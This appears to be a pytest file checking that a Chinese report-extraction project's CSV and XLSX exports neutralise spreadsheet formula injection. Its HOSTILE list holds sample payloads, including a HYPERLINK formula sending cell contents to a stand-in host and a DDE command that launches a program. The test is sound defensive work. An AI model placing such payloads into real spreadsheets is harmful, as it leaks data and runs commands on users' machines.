"""Every CSV and XLSX file the project writes goes through extractor/spreadsheet.py, which writes text
that a spreadsheet would run as a formula (leading =, +, -, @, tab, CR) with a leading apostrophe."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from extractor.batch.confirmed import CONFIRMED_COLUMNS, write_confirmed
from extractor.exports import REPORT_COLUMNS, write_exports, write_records_csv, write_records_xlsx
from extractor.review_store import CellEdit, ReviewStore
from extractor.schema import empty_report
from extractor.spreadsheet import FORMULA_LEADS, neutralise

REPO = Path(__file__).resolve().parents[1]
HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1"]


def test_formula_leading_text_is_neutralised_and_numbers_are_not() -> None:
    for text in HOSTILE:
        assert neutralise(text) == "'" + text
    for value in ("-3", "+1.5", "12.50", "某局", "1=1", "", None, 7, -7):
        assert neutralise(value) == value
    assert set(FORMULA_LEADS) == {"=", "+", "-", "@", "\t", "\r"}


def _csv_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def _xlsx_cells(path: Path) -> list[tuple[str, object]]:
    wb = load_workbook(path)
    return [(c.data_type, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _assert_inert(csv_cells: list[str], xlsx_cells: list[tuple[str, object]], texts: list[str]) -> None:
    for text in texts:
        assert "'" + text in csv_cells, text
        # the apostrophe stays part of the stored text (no formula cell, no leading '=' a tool could run)
        assert ("s", "'" + text) in xlsx_cells, text
    assert not any(t == "f" for t, _ in xlsx_cells)
    assert not any(isinstance(v, str) and v.startswith(FORMULA_LEADS) for _, v in xlsx_cells)
    assert not any(c.startswith(FORMULA_LEADS) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", c) for c in csv_cells)


def test_review_exports_neutralise_reviewer_and_free_text_cells(tmp_path: Path) -> None:
    store = ReviewStore(tmp_path / "r.sqlite")
    for i, text in enumerate(HOSTILE):
        report = empty_report("2019")
        report.agency = text
        report.active_disclosure.procurement.amount_unit = text  # type: ignore[union-attr]
        store.confirm(source_text=f"源文本 {i}", source_sha256=f"{i:064d}", report=report, findings=[], evidence={},
                      machine={}, edits=[CellEdit("active_disclosure.procurement.amount_unit", None, text, who=text)],
                      reviewer=text, expected_version=0)
    csv_cells = _csv_cells(write_records_csv(store, tmp_path / "cells.csv"))
    xlsx_cells = _xlsx_cells(write_records_xlsx(store, tmp_path / "records.xlsx"))
    _assert_inert(csv_cells, xlsx_cells, HOSTILE)


def test_batch_exports_neutralise_agency_and_messages(tmp_path: Path) -> None:
    records = []
    for i, text in enumerate(HOSTILE):
        report = empty_report("2021")
        report.agency = text
        record: dict[str, object] = dict(report.canonical())
        record.update(source_path=f"/{i}.txt", source_sha256=f"s{i}", settings_key="k",
                      settings={"engine": "llm", "model": text}, status="ok", error=None, evidence={},
                      findings=[{"rule": "R3.2", "severity": "error", "attribution": "report", "cells": [],
                                 "message": text}],
                      counts={"findings": 1, "errors": 1, "report_errors": 1, "extraction_doubts": 0})
        records.append(record)
    paths, _ = write_exports(tmp_path, records)
    csv_cells = _csv_cells(paths.reports_csv) + _csv_cells(paths.findings_csv)
    assert "机关 [agency]" in [h for h, _ in REPORT_COLUMNS]
    _assert_inert(csv_cells, _xlsx_cells(paths.reports_xlsx), HOSTILE)

    # the review queue's confirmed export: the same files, plus who confirmed (a name a person typed)
    for record, text in zip(records, HOSTILE):
        record["review"] = {"reviewer": text, "via": text, "confirmed_at": "2024-01-01T00:00:00", "cells_changed": 0}
    confirmed, _jsonl = write_confirmed(tmp_path / "confirmed", records)
    csv_cells = _csv_cells(confirmed.reports_csv) + _csv_cells(confirmed.findings_csv)
    assert "审核人 [reviewer]" in [h for h, _ in CONFIRMED_COLUMNS]
    _assert_inert(csv_cells, _xlsx_cells(confirmed.reports_xlsx), HOSTILE)


def test_no_other_module_writes_csv_or_xlsx() -> None:
    """One writer: a new export that bypasses extractor/spreadsheet.py would bypass the neutralising."""
    writers = re.compile(r"csv\.(writer|DictWriter)\(|openpyxl|xlsxwriter|\.to_csv\(|\.to_excel\(")
    offenders = [
        str(path.relative_to(REPO)) for folder in ("extractor", "ui", "evals")
        for path in (REPO / folder).rglob("*.py")
        if path.name != "spreadsheet.py" and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


@pytest.mark.parametrize("lead", sorted(FORMULA_LEADS))
def test_each_lead_alone(lead: str) -> None:
    assert neutralise(lead + "x") == "'" + lead + "x"
